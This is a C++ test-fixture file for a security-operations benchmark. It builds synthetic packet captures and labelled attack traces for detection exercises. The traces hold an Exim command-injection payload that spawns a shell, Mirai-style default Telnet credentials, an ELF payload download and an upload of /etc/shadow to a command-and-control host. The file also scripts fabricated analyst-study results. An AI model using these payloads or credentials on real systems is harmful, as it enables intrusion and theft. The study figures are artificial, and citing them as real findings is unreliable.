#include "fixtures.hpp"

#include <algorithm>
#include <arpa/inet.h>
#include <atomic>
#include <cmath>
#include <fstream>
#include <iterator>
#include <numeric>
#include <stdexcept>
#include <unistd.h>

namespace fixture {

using socbench::AttackPhase;

std::uint32_t ones_sum(std::span<const std::uint8_t> bytes, std::uint32_t acc) {
    for (std::size_t i = 0; i < bytes.size(); i += 2) {
        std::uint32_t word = std::uint32_t{bytes[i]} << 8;
        if (i + 1 < bytes.size()) word |= bytes[i + 1];
        acc += word;
        acc = (acc & 0xffff) + (acc >> 16);
    }
    return acc;
}

std::uint16_t fold_complement(std::uint32_t acc) {
    while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
    return static_cast<std::uint16_t>(~acc & 0xffff);
}

std::uint16_t internet_checksum(std::span<const std::uint8_t> bytes) { return fold_complement(ones_sum(bytes)); }

namespace {

void put16(Bytes& b, std::size_t off, std::uint16_t v) {
    b[off] = static_cast<std::uint8_t>(v >> 8);
    b[off + 1] = static_cast<std::uint8_t>(v);
}

void push16(Bytes& b, std::uint16_t v) {
    b.push_back(static_cast<std::uint8_t>(v >> 8));
    b.push_back(static_cast<std::uint8_t>(v));
}

void push32(Bytes& b, std::uint32_t v) {
    for (int s = 24; s >= 0; s -= 8) b.push_back(static_cast<std::uint8_t>(v >> s));
}

std::uint16_t get16(std::span<const std::uint8_t> b, std::size_t off) {
    return static_cast<std::uint16_t>((b[off] << 8) | b[off + 1]);
}

std::uint32_t pseudo_header_sum(std::uint32_t src, std::uint32_t dst, std::uint8_t proto, std::size_t len) {
    Bytes ph;
    push32(ph, src);
    push32(ph, dst);
    ph.push_back(0);
    ph.push_back(proto);
    push16(ph, static_cast<std::uint16_t>(len));
    return ones_sum(ph);
}

// Offset of the L3 header after Ethernet and any VLAN tags, plus the ethertype.
std::pair<std::size_t, std::uint16_t> l3_of(std::span<const std::uint8_t> frame) {
    std::size_t off = 12;
    while (frame.size() >= off + 2) {
        const std::uint16_t type = get16(frame, off);
        if (type == 0x8100 || type == 0x88a8) {
            off += 4;
            continue;
        }
        return {off + 2, type};
    }
    return {frame.size(), 0};
}

}  // namespace

bool frame_checksums_valid(std::span<const std::uint8_t> frame) {
    const auto [l3, type] = l3_of(frame);
    if (type != 0x0800 || frame.size() < l3 + 20) return true;
    const std::size_t ihl = (frame[l3] & 0x0f) * 4u;
    if (internet_checksum(frame.subspan(l3, ihl)) != 0) return false;
    const std::size_t total = get16(frame, l3 + 2);
    const std::uint16_t frag = get16(frame, l3 + 6);
    if ((frag & 0x3fff) != 0) return true;  // fragments carry no verifiable L4 checksum
    if (frame.size() < l3 + total) return true;  // truncated
    const std::uint8_t proto = frame[l3 + 9];
    const auto l4 = frame.subspan(l3 + ihl, total - ihl);
    const std::uint32_t src = (std::uint32_t{frame[l3 + 12]} << 24) | (frame[l3 + 13] << 16) |
                              (frame[l3 + 14] << 8) | frame[l3 + 15];
    const std::uint32_t dst = (std::uint32_t{frame[l3 + 16]} << 24) | (frame[l3 + 17] << 16) |
                              (frame[l3 + 18] << 8) | frame[l3 + 19];
    if (proto == 6 || proto == 17) {
        if (proto == 17 && get16(l4, 6) == 0) return true;
        return fold_complement(ones_sum(l4, pseudo_header_sum(src, dst, proto, l4.size()))) == 0;
    }
    if (proto == 1) return internet_checksum(l4) == 0;
    return true;
}

std::uint32_t ip(const char* dotted) {
    in_addr a{};
    if (inet_pton(AF_INET, dotted, &a) != 1) throw std::invalid_argument(dotted);
    return ntohl(a.s_addr);
}

Bytes ethernet(std::uint16_t ethertype, const Bytes& payload, std::uint8_t mac_seed) {
    Bytes f{0x02, 0x00, 0x00, 0x00, 0x00, static_cast<std::uint8_t>(mac_seed + 1),
            0x02, 0x00, 0x00, 0x00, 0x00, mac_seed};
    push16(f, ethertype);
    f.insert(f.end(), payload.begin(), payload.end());
    return f;
}

Bytes ipv4(const Ipv4Spec& s, const Bytes& l4) {
    const std::size_t ihl = 20 + s.options.size();
    Bytes h;
    h.push_back(static_cast<std::uint8_t>(0x40 | (ihl / 4)));
    h.push_back(0);
    push16(h, static_cast<std::uint16_t>(ihl + l4.size()));
    push16(h, s.id);
    push16(h, static_cast<std::uint16_t>((s.more_fragments ? 0x2000 : 0) | s.fragment_offset));
    h.push_back(s.ttl);
    h.push_back(s.protocol);
    push16(h, 0);
    push32(h, s.src);
    push32(h, s.dst);
    h.insert(h.end(), s.options.begin(), s.options.end());
    put16(h, 10, internet_checksum(h));
    h.insert(h.end(), l4.begin(), l4.end());
    return h;
}

Bytes tcp_segment(std::uint32_t src, std::uint32_t dst, std::uint16_t sport, std::uint16_t dport,
                  std::uint8_t flags, const Bytes& payload, std::uint32_t seq) {
    Bytes t;
    push16(t, sport);
    push16(t, dport);
    push32(t, seq);
    push32(t, flags & 0x10 ? 77 : 0);
    t.push_back(0x50);
    t.push_back(flags);
    push16(t, 64240);
    push16(t, 0);
    push16(t, 0);
    t.insert(t.end(), payload.begin(), payload.end());
    put16(t, 16, fold_complement(ones_sum(t, pseudo_header_sum(src, dst, 6, t.size()))));
    return t;
}

Bytes udp_datagram(std::uint32_t src, std::uint32_t dst, std::uint16_t sport, std::uint16_t dport,
                   const Bytes& payload, bool zero_checksum) {
    Bytes u;
    push16(u, sport);
    push16(u, dport);
    push16(u, static_cast<std::uint16_t>(8 + payload.size()));
    push16(u, 0);
    u.insert(u.end(), payload.begin(), payload.end());
    if (!zero_checksum) {
        std::uint16_t c = fold_complement(ones_sum(u, pseudo_header_sum(src, dst, 17, u.size())));
        put16(u, 6, c == 0 ? 0xffff : c);
    }
    return u;
}

Bytes icmp_echo(std::uint16_t ident, std::uint16_t seq, const Bytes& payload) {
    Bytes m{8, 0, 0, 0};
    push16(m, ident);
    push16(m, seq);
    m.insert(m.end(), payload.begin(), payload.end());
    put16(m, 2, internet_checksum(m));
    return m;
}

Bytes tcp_frame(std::uint32_t src, std::uint32_t dst, std::uint16_t sport, std::uint16_t dport, std::uint8_t flags,
                const Bytes& payload) {
    return ethernet(0x0800, ipv4({.src = src, .dst = dst, .protocol = 6},
                                 tcp_segment(src, dst, sport, dport, flags, payload)));
}

Bytes udp_frame(std::uint32_t src, std::uint32_t dst, std::uint16_t sport, std::uint16_t dport, const Bytes& payload,
                bool zero_checksum) {
    return ethernet(0x0800, ipv4({.src = src, .dst = dst, .protocol = 17},
                                 udp_datagram(src, dst, sport, dport, payload, zero_checksum)));
}

Bytes icmp_frame(std::uint32_t src, std::uint32_t dst, std::uint16_t seq) {
    return ethernet(0x0800, ipv4({.src = src, .dst = dst, .protocol = 1}, icmp_echo(0x4242, seq, {1, 2, 3, 4})));
}

Bytes arp_frame(std::uint32_t sender, std::uint32_t target) {
    Bytes a;
    push16(a, 1);
    push16(a, 0x0800);
    a.push_back(6);
    a.push_back(4);
    push16(a, 1);
    for (int i = 0; i < 6; ++i) a.push_back(static_cast<std::uint8_t>(0x10 + i));
    push32(a, sender);
    for (int i = 0; i < 6; ++i) a.push_back(0);
    push32(a, target);
    return ethernet(0x0806, a);
}

Bytes ipv6_frame() {
    Bytes p(40, 0);
    p[0] = 0x60;
    p[6] = 59;  // no next header
    p[7] = 64;
    p[23] = 1;
    p[39] = 2;
    return ethernet(0x86dd, p);
}

std::vector<std::size_t> mutable_offsets(std::span<const std::uint8_t> frame) {
    std::vector<std::size_t> out;
    const auto [l3, type] = l3_of(frame);
    if (type == 0x0806) {
        for (std::size_t i = 0; i < 4; ++i) {
            out.push_back(l3 + 14 + i);
            out.push_back(l3 + 24 + i);
        }
        return out;
    }
    if (type != 0x0800) return out;
    for (std::size_t i = 10; i < 20; ++i) out.push_back(l3 + i);
    const std::size_t ihl = (frame[l3] & 0x0f) * 4u;
    const std::uint8_t proto = frame[l3 + 9];
    if ((get16(frame, l3 + 6) & 0x1fff) != 0) return out;
    if (proto == 6) {
        out.push_back(l3 + ihl + 16);
        out.push_back(l3 + ihl + 17);
    } else if (proto == 17) {
        out.push_back(l3 + ihl + 6);
        out.push_back(l3 + ihl + 7);
    }
    return out;
}

Bytes random_ipv4_frame(std::mt19937_64& rng, std::span<const std::uint32_t> pool) {
    auto pick = [&] { return pool[std::uniform_int_distribution<std::size_t>(0, pool.size() - 1)(rng)]; };
    auto byte = [&] { return static_cast<std::uint8_t>(rng()); };
    const std::uint32_t src = pick();
    const std::uint32_t dst = pick();
    Bytes payload(std::uniform_int_distribution<std::size_t>(0, 97)(rng));
    for (auto& b : payload) b = byte();
    const auto port = [&] { return static_cast<std::uint16_t>(rng()); };

    Ipv4Spec spec{.src = src, .dst = dst, .ttl = byte(), .id = static_cast<std::uint16_t>(rng())};
    if (rng() % 8 == 0) spec.options = {0x01, 0x01, 0x01, 0x00};  // NOP NOP NOP EOL
    Bytes l4;
    switch (rng() % 3) {
        case 0:
            spec.protocol = 6;
            l4 = tcp_segment(src, dst, port(), port(), byte(), payload, static_cast<std::uint32_t>(rng()));
            break;
        case 1:
            spec.protocol = 17;
            l4 = udp_datagram(src, dst, port(), port(), payload, rng() % 10 == 0);
            break;
        default:
            spec.protocol = 1;
            l4 = icmp_echo(port(), port(), payload);
            break;
    }
    Bytes frame = ethernet(0x0800, ipv4(spec, l4), byte());
    if (rng() % 10 == 0) {
        // 802.1Q tag between the MACs and the ethertype.
        const Bytes tag{0x81, 0x00, 0x00, byte()};
        frame.insert(frame.begin() + 12, tag.begin(), tag.end());
    }
    return frame;
}

// ---- pcap ------------------------------------------------------------------

namespace {

void emit16(Bytes& b, std::uint16_t v, bool big) {
    if (big) {
        push16(b, v);
    } else {
        b.push_back(static_cast<std::uint8_t>(v));
        b.push_back(static_cast<std::uint8_t>(v >> 8));
    }
}

void emit32(Bytes& b, std::uint32_t v, bool big) {
    if (big) {
        push32(b, v);
    } else {
        for (int s = 0; s < 32; s += 8) b.push_back(static_cast<std::uint8_t>(v >> s));
    }
}

}  // namespace

Bytes pcap_bytes(const PcapSpec& spec) {
    Bytes b;
    const bool big = spec.big_endian;
    emit32(b, spec.nano ? 0xa1b23c4d : 0xa1b2c3d4, big);
    emit16(b, spec.version_major, big);
    emit16(b, spec.version_minor, big);
    emit32(b, static_cast<std::uint32_t>(spec.thiszone), big);
    emit32(b, spec.sigfigs, big);
    emit32(b, spec.snaplen, big);
    emit32(b, spec.link_type, big);
    for (const auto& r : spec.records) {
        emit32(b, r.ts_sec, big);
        emit32(b, r.ts_frac, big);
        emit32(b, static_cast<std::uint32_t>(r.data.size()), big);
        emit32(b, r.original_len, big);
        b.insert(b.end(), r.data.begin(), r.data.end());
    }
    return b;
}

std::vector<PcapSpec> pcap_corpus(std::uint64_t seed) {
    std::mt19937_64 rng(seed);
    const std::vector<std::uint32_t> pool{ip("10.0.0.1"), ip("10.0.0.9"), ip("192.168.1.20"), ip("172.16.5.4")};
    std::vector<PcapSpec> out;
    for (int i = 0; i < 100; ++i) {
        PcapSpec s;
        s.nano = (i / 2) % 2 == 1;
        s.big_endian = i % 2 == 1;
        s.thiszone = (i % 7 == 0) ? -3600 : 0;
        s.sigfigs = (i % 11 == 0) ? 3 : 0;
        s.snaplen = (i % 5 == 0) ? 96 : 262144;
        if (i % 13 == 0) s.link_type = 101;  // raw IP
        if (i % 17 == 0) s.link_type = 228;  // IPv4, another non-Ethernet type
        const int n = (i % 9 == 0) ? 0 : static_cast<int>(rng() % 40) + 1;
        std::uint32_t sec = 1'600'000'000u + static_cast<std::uint32_t>(rng() % 1'000'000);
        const std::uint32_t frac_limit = s.nano ? 1'000'000'000u : 1'000'000u;
        for (int k = 0; k < n; ++k) {
            Bytes frame;
            switch (rng() % 4) {
                case 0: frame = random_ipv4_frame(rng, pool); break;
                case 1: frame = arp_frame(pool[0], pool[1]); break;
                case 2: frame = ipv6_frame(); break;
                default:
                    frame.resize(rng() % 200);
                    for (auto& b : frame) b = static_cast<std::uint8_t>(rng());
                    break;
            }
            const auto original = static_cast<std::uint32_t>(frame.size());
            if (frame.size() > s.snaplen) frame.resize(s.snaplen);
            // Occasionally step back in time: round trips must keep stored order.
            if (k > 0 && rng() % 15 == 0)
                sec -= 1;
            else
                sec += static_cast<std::uint32_t>(rng() % 3);
            s.records.push_back({sec, static_cast<std::uint32_t>(rng() % frac_limit), original, std::move(frame)});
        }
        out.push_back(std::move(s));
    }
    return out;
}

socbench::pcap::Capture capture_from(const std::vector<Bytes>& frames, std::int64_t gap_us, std::uint32_t start_sec) {
    socbench::pcap::Capture c;
    c.header.byte_order = socbench::pcap::native_byte_order();
    std::int64_t t = 0;
    for (const auto& f : frames) {
        socbench::pcap::PacketRecord r;
        r.ts_sec = start_sec + static_cast<std::uint32_t>(t / 1'000'000);
        r.ts_frac = static_cast<std::uint32_t>(t % 1'000'000);
        r.original_len = static_cast<std::uint32_t>(f.size());
        r.data = f;
        c.packets.push_back(std::move(r));
        t += gap_us;
    }
    c.refresh_monotonic();
    return c;
}

// ---- demo library ------------------------------------------------------------

namespace {

Bytes text(const std::string& s) { return Bytes(s.begin(), s.end()); }

Bytes capture_bytes(const std::vector<Bytes>& frames, std::int64_t gap_us) {
    PcapSpec spec;
    spec.big_endian = socbench::pcap::native_byte_order() == socbench::pcap::ByteOrder::big;
    spec.snaplen = 262144;
    std::int64_t t = 0;
    for (const auto& f : frames) {
        spec.records.push_back({1'700'000'000u + static_cast<std::uint32_t>(t / 1'000'000),
                                static_cast<std::uint32_t>(t % 1'000'000), static_cast<std::uint32_t>(f.size()), f});
        t += gap_us;
    }
    return pcap_bytes(spec);
}

socbench::TraceMetadata meta(const std::string& name, AttackPhase phase, const std::string& technique,
                             socbench::RoleMap roles) {
    socbench::TraceMetadata m;
    m.name = name;
    m.phase = phase;
    m.technique = technique;
    m.roles = std::move(roles);
    return m;
}

}  // namespace

std::vector<DemoTrace> demo_traces() {
    const std::uint32_t a = ip(kRawAttacker), v = ip(kRawVictim), c = ip(kRawCnc);
    const socbench::Ipv4Address A(a), V(v), C(c);
    std::vector<DemoTrace> out;

    {
        std::vector<Bytes> f;
        for (std::uint16_t port : {21, 22, 23, 25, 80, 110, 143, 443, 2323, 8080}) {
            f.push_back(tcp_frame(a, v, 40000, port, 0x02));
            f.push_back(tcp_frame(v, a, port, 40000, port == 23 || port == 25 ? 0x12 : 0x14));
        }
        auto m = meta("TCP SYN port scan", AttackPhase::reconnaissance, "portscan",
                      {{"attacker", A}, {"victim", V}});
        m.expected_answers.recon = {"port scan"};
        out.push_back({"portscan", m, capture_bytes(f, 50'000)});
    }
    {
        std::vector<Bytes> f{tcp_frame(a, v, 41000, 25, 0x02), tcp_frame(v, a, 25, 41000, 0x12),
                             tcp_frame(a, v, 41000, 25, 0x10),
                             tcp_frame(v, a, 25, 41000, 0x18, text("220 mail ESMTP Exim 4.87\r\n")),
                             tcp_frame(a, v, 41000, 25, 0x18, text("RCPT TO:<${run{\\x2fbin\\x2fsh}}@x>\r\n")),
                             tcp_frame(v, a, 25, 41000, 0x18, text("250 Accepted\r\n")),
                             tcp_frame(a, v, 41000, 25, 0x11)};
        auto m = meta("Exim RCPT TO command injection", AttackPhase::exploitation, "exploit_cve",
                      {{"attacker", A}, {"victim", V}});
        m.expected_answers.exploit = {"remote code execution"};
        out.push_back({"exploit_cve", m, capture_bytes(f, 120'000)});
    }
    {
        std::vector<Bytes> f{tcp_frame(v, a, 42000, 80, 0x02), tcp_frame(a, v, 80, 42000, 0x12),
                             tcp_frame(v, a, 42000, 80, 0x10),
                             tcp_frame(v, a, 42000, 80, 0x18, text("GET /bins/x86 HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n")),
                             tcp_frame(a, v, 80, 42000, 0x18, text("HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\n\x7f" "ELF....")),
                             tcp_frame(v, a, 42000, 80, 0x11), tcp_frame(a, v, 80, 42000, 0x11)};
        auto m = meta("Payload download over HTTP", AttackPhase::delivery, "http_get",
                      {{"attacker", A}, {"victim", V}});
        m.expected_answers.delivery_control = {"http requests"};
        out.push_back({"http_get", m, capture_bytes(f, 80'000)});
    }
    {
        std::vector<Bytes> f;
        for (std::uint16_t k = 0; k < 6; ++k) {
            f.push_back(udp_frame(v, c, 53000, 53, text("beacon-" + std::to_string(k))));
            f.push_back(udp_frame(c, v, 53, 53000, text("ack")));
        }
        f.push_back(tcp_frame(v, c, 43000, 443, 0x18, text("POST /upload /etc/shadow ...")));
        auto m = meta("Beacon and upload to CnC", AttackPhase::control, "contact_cnc", {{"victim", V}, {"cnc", C}});
        m.expected_answers.delivery_control = {"data exfiltration"};
        out.push_back({"contact_cnc", m, capture_bytes(f, 200'000)});
    }
    {
        std::vector<Bytes> f{tcp_frame(a, v, 44000, 23, 0x02), tcp_frame(v, a, 23, 44000, 0x12)};
        for (const char* cred : {"root:xc3511", "admin:admin", "root:vizxv"}) {
            f.push_back(tcp_frame(v, a, 23, 44000, 0x18, text("login: ")));
            f.push_back(tcp_frame(a, v, 44000, 23, 0x18, text(cred)));
        }
        f.push_back(tcp_frame(v, a, 23, 44000, 0x18, text("# ")));
        auto m = meta("Telnet default credentials", AttackPhase::exploitation, "telnet_bruteforce",
                      {{"attacker", A}, {"victim", V}});
        m.expected_answers.exploit = {"weak credentials"};
        out.push_back({"telnet_bruteforce", m, capture_bytes(f, 150'000)});
    }
    return out;
}

socbench::AttackScenario demo_scenario(const std::vector<std::string>& ids, const std::string& attacker,
                                       const std::string& victim, const std::string& cnc) {
    using socbench::Ipv4Prefix;
    socbench::pcap::AddressMap map({{Ipv4Prefix::from_string(kRawAttacker), Ipv4Prefix::from_string(attacker)},
                                    {Ipv4Prefix::from_string(kRawVictim), Ipv4Prefix::from_string(victim)},
                                    {Ipv4Prefix::from_string(kRawCnc), Ipv4Prefix::from_string(cnc)}});
    socbench::AttackScenario s;
    s.name = "four-phase demo";
    const double offsets[] = {0.0, 30.0, 60.0, 90.0};
    for (std::size_t i = 0; i < ids.size(); ++i) s.blocks.push_back({ids[i], offsets[i % 4], 1.0, map});
    return s;
}

// ---- reports ---------------------------------------------------------------------

std::string report_header() {
    return "group_id,condition,submitted_at,incident_index,attacker_ips,victim_ips,recon,exploit,delivery,"
           "receiver_ips,comments\n";
}

namespace {

std::string quote(const std::string& s) {
    if (s.find_first_of(",\"\n\r") == std::string::npos) return s;
    std::string out = "\"";
    for (char ch : s) {
        if (ch == '"') out += '"';
        out += ch;
    }
    return out + "\"";
}

std::string join(const std::set<std::string>& items) {
    std::string out;
    for (const auto& s : items) out += (out.empty() ? "" : ";") + s;
    return out;
}

std::string join_ips(const std::set<socbench::Ipv4Address>& ips) {
    std::string out;
    for (const auto& a : ips) out += (out.empty() ? "" : ";") + a.to_string();
    return out;
}

}  // namespace

std::string report_csv(const std::vector<ReportRow>& rows) {
    std::string out = report_header();
    for (const auto& r : rows) {
        for (const std::string* f : {&r.group_id, &r.condition, &r.submitted_at, &r.incident_index, &r.attacker_ips,
                                     &r.victim_ips, &r.recon, &r.exploit, &r.delivery, &r.receiver_ips}) {
            out += quote(*f) + ",";
        }
        out += quote(r.comments) + "\n";
    }
    return out;
}

std::vector<ReportRow> perfect_rows(const std::string& group, const std::string& condition,
                                    std::span<const socbench::GroundTruth> truths) {
    std::vector<ReportRow> rows;
    for (std::size_t i = 0; i < truths.size(); ++i) {
        const auto& t = truths[i];
        rows.push_back({group, condition, "2024-03-01T10:00:00Z", std::to_string(i + 1), join_ips(t.attacker_ips),
                        join_ips(t.victim_ips), join(t.expected.recon), join(t.expected.exploit),
                        join(t.expected.delivery_control), "", ""});
    }
    return rows;
}

std::vector<double> histogram_sample(std::initializer_list<std::pair<int, int>> histogram) {
    std::vector<double> out;
    for (auto [count, groups] : histogram) out.insert(out.end(), static_cast<std::size_t>(groups), count);
    return out;
}

std::vector<double> badsoc_counts() { return histogram_sample({{1, 7}, {2, 13}, {3, 9}, {4, 2}, {5, 1}}); }
std::vector<double> goodsoc_counts() { return histogram_sample({{1, 6}, {2, 5}, {3, 11}, {4, 5}, {5, 4}}); }

namespace {

struct ScenarioPlan {
    int recon;
    int exploit;
    int http;
    int exfil;
    int lateral;
};

struct ConditionPlan {
    std::string name;
    std::vector<double> counts;
    int mirai_only;
    int exim_only;
    int both;
    ScenarioPlan mirai;
    ScenarioPlan exim;
};

std::vector<ConditionPlan> study_plan() {
    return {
        {"BADSOC", badsoc_counts(), 9, 8, 1, {7, 5, 3, 3, 4}, {1, 8, 2, 0, 0}},
        {"GOODSOC", goodsoc_counts(), 5, 10, 7, {9, 5, 8, 0, 5}, {4, 14, 3, 0, 0}},
    };
}

struct GroupOutcome {
    std::string id;
    int reports;
    bool mirai = false;
    bool exim = false;
};

// Largest submitters find the most: "both" first, then single-scenario groups.
std::vector<GroupOutcome> assign_groups(const ConditionPlan& plan, int& serial) {
    std::vector<int> counts(plan.counts.begin(), plan.counts.end());
    std::stable_sort(counts.begin(), counts.end(), std::greater<>());
    std::vector<GroupOutcome> out;
    for (std::size_t i = 0; i < counts.size(); ++i) {
        GroupOutcome g{"G" + std::to_string(serial++), counts[i]};
        const int k = static_cast<int>(i);
        if (k < plan.both) {
            g.mirai = g.exim = true;
        } else if (k < plan.both + plan.mirai_only) {
            g.mirai = true;
        } else if (k < plan.both + plan.mirai_only + plan.exim_only) {
            g.exim = true;
        }
        out.push_back(g);
    }
    return out;
}

}  // namespace

std::string study_csv(const socbench::GroundTruth& mirai, const socbench::GroundTruth& exim) {
    std::vector<ReportRow> rows;
    int serial = 1;
    int noise = 1;
    for (const auto& plan : study_plan()) {
        const auto groups = assign_groups(plan, serial);
        int mirai_seen = 0, exim_seen = 0;
        for (const auto& g : groups) {
            int index = 1;
            auto add = [&](const socbench::GroundTruth& t, const ScenarioPlan& p, int rank, int reporting) {
                ReportRow r{g.id, plan.name, "2024-03-01T10:00:00Z", std::to_string(index++), join_ips(t.attacker_ips),
                            join_ips(t.victim_ips)};
                r.recon = rank < p.recon ? "Port scan" : "SIP scan";
                r.exploit = rank < p.exploit ? join(t.expected.exploit) : "SQL injection";
                std::set<std::string> delivery;
                if (rank < p.http)
                    delivery.insert("HTTP requests");
                else if (rank < p.http + p.exfil)
                    delivery.insert("Data exfiltration");
                if (rank >= reporting - p.lateral) delivery.insert("Lateral movement");
                if (delivery.empty()) delivery.insert("Denial of service");
                r.delivery = join(delivery);
                if (rank % 4 == 3) r.comments = "this malware made a HTTP request, exfiltrated data";
                rows.push_back(r);
            };
            if (g.mirai) add(mirai, plan.mirai, mirai_seen++, plan.mirai_only + plan.both);
            if (g.exim) add(exim, plan.exim, exim_seen++, plan.exim_only + plan.both);
            while (index <= g.reports) {
                // Unrelated incidents: addresses from neither scenario.
                const std::string n = std::to_string(noise++ % 250 + 1);
                rows.push_back({g.id, plan.name, "2024-03-01T10:00:00Z", std::to_string(index++), "172.31.9." + n,
                                "172.31.200." + n, "None", "None", "None", "", "false positive?"});
            }
        }
    }
    return report_csv(rows);
}

std::vector<socbench::ConditionSummary> study_summaries() {
    std::vector<socbench::ConditionSummary> out;
    for (const auto& plan : study_plan()) {
        socbench::ConditionSummary s;
        s.condition = plan.name;
        s.groups = plan.counts.size();
        for (double c : plan.counts) s.per_group_report_counts.push_back(static_cast<std::size_t>(c));
        s.reports_total = static_cast<std::size_t>(std::accumulate(plan.counts.begin(), plan.counts.end(), 0.0));
        s.mean_reports = static_cast<double>(s.reports_total) / static_cast<double>(s.groups);
        double ss = 0;
        for (double c : plan.counts) ss += (c - s.mean_reports) * (c - s.mean_reports);
        s.sd_reports = std::sqrt(ss / static_cast<double>(s.groups - 1));
        const auto mirai_n = static_cast<std::size_t>(plan.mirai_only + plan.both);
        const auto exim_n = static_cast<std::size_t>(plan.exim_only + plan.both);
        s.scenario_groups = {{"mirai", mirai_n}, {"exim", exim_n}};
        s.groups_all = static_cast<std::size_t>(plan.both);
        s.groups_partial = static_cast<std::size_t>(plan.mirai_only + plan.exim_only);
        s.groups_none = s.groups - s.groups_all - s.groups_partial;
        auto counts = [](const ScenarioPlan& p, std::size_t n) {
            socbench::PhaseCounts pc;
            pc.reporting_groups = n;
            pc.recon_correct = static_cast<std::size_t>(p.recon);
            pc.exploit_correct = static_cast<std::size_t>(p.exploit);
            pc.delivery_any = static_cast<std::size_t>(p.http + p.exfil);
            pc.delivery_both = 0;
            if (p.http) pc.delivery_label_groups["http requests"] = static_cast<std::size_t>(p.http);
            if (p.exfil) pc.delivery_label_groups["data exfiltration"] = static_cast<std::size_t>(p.exfil);
            if (p.lateral) pc.delivery_label_groups["lateral movement"] = static_cast<std::size_t>(p.lateral);
            // Groups left without a correct or lateral answer fall back to "denial of service".
            std::size_t dos_only = 0;
            for (std::size_t rank = 0; rank < n; ++rank) {
                const bool correct = rank < static_cast<std::size_t>(p.http + p.exfil);
                const bool lateral = rank >= n - static_cast<std::size_t>(p.lateral);
                if (!correct && !lateral) ++dos_only;
            }
            if (dos_only) pc.delivery_label_groups["denial of service"] = dos_only;
            return pc;
        };
        s.phase_counts = {{"mirai", counts(plan.mirai, mirai_n)}, {"exim", counts(plan.exim, exim_n)}};
        out.push_back(std::move(s));
    }
    return out;
}

// ---- misc ----------------------------------------------------------------------------

std::filesystem::path temp_dir(const std::string& tag) {
    static std::atomic<int> counter{0};
    auto dir = std::filesystem::temp_directory_path() /
               ("socbench-" + tag + "-" + std::to_string(::getpid()) + "-" + std::to_string(counter++));
    std::filesystem::remove_all(dir);
    std::filesystem::create_directories(dir);
    return dir;
}

void write_bytes(const std::filesystem::path& path, std::span<const std::uint8_t> bytes) {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out.write(reinterpret_cast<const char*>(bytes.data()), static_cast<std::streamsize>(bytes.size()));
    if (!out) throw std::runtime_error("cannot write " + path.string());
}

Bytes read_bytes(const std::filesystem::path& path) {
    std::ifstream in(path, std::ios::binary);
    if (!in) throw std::runtime_error("cannot read " + path.string());
    return Bytes(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

}  // namespace fixture
